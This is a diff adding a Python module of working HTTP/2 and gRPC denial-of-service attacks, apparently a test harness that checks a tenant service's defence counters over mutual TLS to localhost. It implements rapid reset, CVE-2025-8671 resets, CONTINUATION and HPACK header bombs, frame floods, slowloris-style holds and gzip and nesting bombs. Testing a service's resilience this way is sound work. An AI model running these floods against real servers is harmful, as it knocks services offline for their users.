@@ -1,0 +1,227 @@
+"""What one hostile client does to the service: each function is an attack on one connection, frames by hand.
+
+An attack yields after each portion of its flood; the caller decides when it is enough.  OSError ends the connection: cut off.
+"""
+import gzip
+import socket
+import ssl
+import struct
+
+import hpack
+
+DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
+END_STREAM, END_HEADERS = 0x1, 0x4
+PATH = "/tenant.v1.TenantService/GetTenant"
+PORTION = 100  # frames in one write
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+class Connection:
+    def __init__(self, address, pki, identity):
+        host, port = address.rsplit(":", 1)
+        context = ssl.create_default_context(cafile=pki / "ca.pem")
+        context.load_cert_chain(pki / f"{identity}.pem", pki / f"{identity}.key")
+        context.set_alpn_protocols(["h2"])
+        self.socket = context.wrap_socket(socket.create_connection((host, int(port)), 5), server_hostname="localhost")
+        self.socket.settimeout(2)
+        self.encoder = hpack.Encoder()
+        self.stream = -1
+        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0))
+
+    def close(self):
+        self.socket.close()
+
+    def send(self, data):
+        self.socket.sendall(data)
+
+    def drain(self):
+        """Reads what is there, so that the server's side of the socket stays open to answers."""
+        self.socket.settimeout(0)
+        try:
+            while self.socket.recv(65536):
+                pass
+            raise ConnectionResetError("closed")
+        except (ssl.SSLWantReadError, BlockingIOError):
+            pass
+        finally:
+            self.socket.settimeout(2)
+
+    def next_stream(self):
+        self.stream += 2
+        return self.stream
+
+    def request(self, extra=(), path=PATH):
+        return self.encoder.encode([(":method", "POST"), (":scheme", "https"), (":path", path),
+                                    (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers"),
+                                    *extra])
+
+    def begin(self, extra=(), flags=END_HEADERS, path=PATH):
+        """A request's HEADERS on a new stream."""
+        return frame(HEADERS, flags, self.next_stream(), self.request(extra, path))
+
+
+def repeated(connection, make):
+    while True:
+        connection.send(b"".join(make() for _ in range(PORTION)))
+        connection.drain()
+        yield PORTION
+
+
+# --- floods ---------------------------------------------------------------------------------------------------------
+
+
+def rapid_reset(connection):
+    body = b"\0\0\0\0\x20\x0a\x1etnt_01H455VB4PEX5VSKNK084SN02Q"
+
+    def one():
+        head = connection.begin()
+        return head + frame(DATA, END_STREAM, connection.stream, body) + \
+            frame(RST, 0, connection.stream, struct.pack(">I", 8))
+    return repeated(connection, one)
+
+
+def made_you_reset(connection):
+    """CVE-2025-8671: a window beyond 2^31 - 1 makes the server reset the stream itself."""
+    return repeated(connection, lambda: connection.begin() + frame(WINDOW, 0, connection.stream, b"\x7f\xff\xff\xff"))
+
+
+def zero_window_update(connection):
+    """What the library ends the connection for by itself."""
+    return repeated(connection, lambda: connection.begin() + frame(WINDOW, 0, connection.stream, bytes(4)))
+
+
+def continuation(connection):
+    connection.send(frame(HEADERS, 0, connection.next_stream(), connection.request()))
+    return repeated(connection, lambda: frame(CONTINUATION, 0, connection.stream))
+
+
+def header_bomb(connection):
+    """One large field in HPACK's table, named thousands of times."""
+    block = connection.request() + b"\x40\x01a\x7f\x81\x1d" + b"x" * 3840 + b"\xbe" * 8000
+    return repeated_slowly(connection, lambda: frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream(), block))
+
+
+def header_count(connection):
+    fields = [(f"x-{n}", "1") for n in range(500)]
+    return repeated_slowly(connection, lambda: connection.begin(fields, END_HEADERS | END_STREAM))
+
+
+def settings(connection):
+    return repeated(connection, lambda: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))
+
+
+def ping(connection):
+    return repeated(connection, lambda: frame(PING, 0, 0, b"12345678"))
+
+
+def priority(connection):
+    return repeated(connection, lambda: frame(PRIORITY, 0, 1, bytes([0, 0, 0, 0, 16])))
+
+
+def unknown_frames(connection):
+    return repeated(connection, lambda: frame(0xbe, 0, 0, b"x"))
+
+
+def empty_data(connection):
+    connection.send(connection.begin())
+    return repeated(connection, lambda: frame(DATA, 0, connection.stream))
+
+
+def window_update(connection):
+    return repeated(connection, lambda: frame(WINDOW, 0, 0, struct.pack(">I", 1)))
+
+
+def not_grpc(connection):
+    return repeated(connection, lambda: frame(
+        HEADERS, END_HEADERS | END_STREAM, connection.next_stream(),
+        connection.encoder.encode([(":method", "POST"), (":scheme", "https"), (":path", "/"), (":authority", "x"),
+                                   ("content-type", "text/plain")])))
+
+
+# --- slow ones, which hold things ----------------------------------------------------------------------------------------
+
+
+def repeated_slowly(connection, make):
+    while True:
+        connection.send(make())
+        connection.drain()
+        yield 1
+
+
+def held(connection, data):
+    connection.send(data)
+    while True:
+        connection.drain()
+        yield 0
+
+
+def slow_headers(connection):
+    return held(connection, frame(HEADERS, 0, connection.next_stream(), connection.request()))
+
+
+def slow_bodies(connection):
+    """A hundred streams, each a prefix that promises a megabyte."""
+    return held(connection, b"".join(
+        connection.begin() + frame(DATA, 0, connection.stream, b"\0\0\x0f\xff\xff" + b"x" * 100) for _ in range(100)))
+
+
+def unread_answers(connection):
+    """A window of nothing: answers pile up."""
+    connection.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
+    body = b"\0\0\0\0\x00"
+
+    def one():
+        head = connection.begin(path="/tenant.v1.TenantService/ListTenants")
+        return head + frame(DATA, END_STREAM, connection.stream, body)
+    return repeated(connection, one)
+
+
+# --- messages ---------------------------------------------------------------------------------------------------------------
+
+
+def message(connection, payload, extra=(), flag=0):
+    prefix = bytes([flag]) + struct.pack(">I", len(payload))
+    data = prefix + payload
+
+    def one():
+        head = connection.begin(extra)
+        parts = [data[i:i + 16384] for i in range(0, len(data), 16384)]
+        body = b"".join(frame(DATA, END_STREAM if i == len(parts) - 1 else 0, connection.stream, part)
+                        for i, part in enumerate(parts))
+        return head + body
+    return repeated_slowly(connection, one)
+
+
+def gzip_bombs(connection):
+    return message(connection, gzip.compress(bytes(20 << 20)), [("grpc-encoding", "gzip")], 1)
+
+
+def nested(connection):
+    payload = b""
+    for _ in range(100):
+        payload = b"\x1a" + bytes([len(payload) & 127 | 128, len(payload) >> 7]) + payload
+    return message(connection, payload)
+
+
+def many_fields(connection):
+    return message(connection, b"\x7a\x00" * 15000)
+
+
+# attacks that only who may call the method can make, and those that hold things until a time limit
+BY_ADMIN = ("gzip bombs", "deep nesting", "many fields", "unread answers")
+SLOW = ("slow headers", "slow bodies")
+
+ON_A_CONNECTION = {
+    "rapid reset": (rapid_reset, "client_resets"), "made you reset": (made_you_reset, "server_resets"),
+    "zero window update": (zero_window_update, "invalid_frame"),
+    "continuation": (continuation, "continuations"), "header bomb": (header_bomb, "header_bytes"),
+    "header count": (header_count, "header_fields"), "settings": (settings, "settings"), "ping": (ping, "ping"),
+    "priority": (priority, "priority"), "unknown frames": (unknown_frames, "priority"),
+    "empty data": (empty_data, "empty_data"), "window update": (window_update, "window_updates"),
+    "not gRPC": (not_grpc, "not_grpc"), "slow headers": (slow_headers, "headers_timeout"),
+    "slow bodies": (slow_bodies, "body_progress"), "unread answers": (unread_answers, ""),
+    "gzip bombs": (gzip_bombs, "inflated_bytes"), "deep nesting": (nested, ""), "many fields": (many_fields, ""),
+}
